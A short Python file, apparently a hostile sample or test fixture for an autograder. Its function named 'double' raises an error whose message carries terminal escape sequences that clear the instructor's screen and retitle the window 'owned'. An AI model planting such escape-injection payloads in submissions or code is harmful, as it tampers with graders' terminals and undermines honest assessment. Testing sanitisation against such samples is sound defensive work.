"""Clear the instructor's terminal and change its title."""

HARM = "terminal"


def double(x):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\x9b31m")


total = double
